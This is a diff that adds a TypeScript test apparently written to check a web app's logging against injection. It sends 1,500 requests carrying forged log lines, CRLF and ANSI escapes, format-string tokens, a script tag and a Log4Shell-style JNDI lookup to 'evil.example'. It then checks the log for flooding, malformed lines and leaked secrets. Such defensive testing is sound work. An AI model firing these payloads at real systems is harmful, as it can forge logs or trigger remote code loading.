@@ -1,0 +1,78 @@
+import { sendRaw } from '#scripts/testing/raw-requests.ts'
+import { Tally, type AttackClass } from '../helpers/attack-class.ts'
+import { feedbackForm } from '../helpers/forms.ts'
+import { inParallel } from '../helpers/in-parallel.ts'
+
+const texts = [
+  '\r\n{"level":60,"msg":"smuggled"}',
+  '\u001b[31mred',
+  '\u2028{"msg":"smuggled"}',
+  '${jndi:ldap://evil.example/a}',
+  '%0a%0d{"msg":"smuggled"}',
+  '","msg":"smuggled","x":"',
+  '\u0007\u0008',
+  'a'.repeat(8_000),
+  '%s%n%x',
+  '<script>smuggled</script>',
+]
+const secret = 'secret-of-the-visitor'
+const mostLines = 60
+
+/** To be run last: the log of everything that was done before is looked through as well. */
+export const logInjection: AttackClass = {
+  name: 'forged, flooded and telltale logs',
+  async run(target) {
+    const tally = new Tally()
+    const linesBefore = lines(target.readLog()).length
+    const coded = texts.map((text) => encodeURIComponent(text))
+    await inParallel(
+      Array.from({ length: 1_500 }, (_, nth) => nth),
+      async (nth) => {
+        const text = `${coded[nth % coded.length]}${nth}`
+        const cookie = `__Host-journey=${secret}; __Host-session=${secret}; lng=${text.slice(0, 200)}`
+        await target.request(`/sign-in/callback?code=${secret}&state=${text}&error=${text}`, {
+          headers: { cookie, 'user-agent': text, referer: text },
+        })
+        if (nth % 10) return
+        await target.post(
+          '/feedback',
+          feedbackForm({
+            email: 'secret@example.org',
+            message: `${secret} ${texts[nth % texts.length]}`,
+          }),
+        )
+        await target.post(`/adminf83922ab/${text}`, { secret })
+        const raw = `GET /${text} HTTP/1.1\r\nHost: a\r\nUser-Agent: \u001b[31m${secret}\r\nX: ${texts[1]}\r\nConnection: close\r\n\r\n`
+        await sendRaw(target.port, raw)
+      },
+    )
+    const all = lines(target.readLog())
+    const added = all.length - linesBefore
+    tally.tried += 1_500
+    tally.count(added <= mostLines, `1,500 requests wrote ${added} lines`)
+    for (const line of all)
+      tally.count(isSound(line), `the log says ${JSON.stringify(line.slice(0, 300))}`)
+    const told = [
+      secret,
+      target.planted.marker,
+      target.settings['GOOGLE_CLIENT_SECRET'] ?? '',
+      '__Host-',
+      'eyJ',
+      '@example.org',
+      '10.0.',
+      'smuggled',
+    ]
+    for (const word of told) tally.count(!target.readLog().includes(word), `the log says ${word}`)
+    return tally
+  },
+}
+
+const lines = (log: string) => log.split('\n').filter(Boolean)
+
+function isSound(line: string): boolean {
+  try {
+    return typeof JSON.parse(line) === 'object' && !/\p{Cc}/u.test(line) && line.length < 10_000
+  } catch {
+    return false
+  }
+}
